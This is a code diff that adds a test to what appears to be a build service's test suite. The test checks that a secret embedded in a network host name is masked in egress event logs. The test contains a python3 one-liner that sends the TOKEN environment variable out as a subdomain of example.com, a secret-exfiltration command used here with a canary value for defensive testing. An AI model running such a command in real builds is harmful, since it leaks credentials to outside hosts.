@@ -95,6 +95,22 @@ def test_a_secret_in_the_words_of_a_failure_is_masked_too(server: "Server", data
     assert found_in(data_dir) == []
 
 
+def test_a_secret_in_the_name_of_a_host_is_masked_in_what_is_told_of_the_network(
+    server: "Server", data_dir: Path
+) -> None:
+    knock = (
+        'python3 -c \'import os, urllib.request as r; r.urlopen("http://" + os.environ["TOKEN"] + ".example.com/")\''
+    )
+    shop = made(
+        server, project(f"{knock}; true", 'secrets = ["TOKEN"]\nnetwork = "registries"'), build_network="registries"
+    )
+    put(server, shop, "TOKEN", "Canary-In-A-Host")
+    build = server.build(shop, wait=True)
+    told = json.dumps([event for event in server.events(build["id"]) if event["type"].startswith("egress.")])
+    assert "[secret].example.com" in told
+    assert "canary-in-a-host" not in json.dumps(server.events(build["id"])).lower()
+
+
 def test_a_variable_that_is_called_like_a_secret_is_masked(server: "Server") -> None:
     shop = made(server, project(more=""), env={"TOKEN": CANARY})
     build = server.build(shop, wait=True)
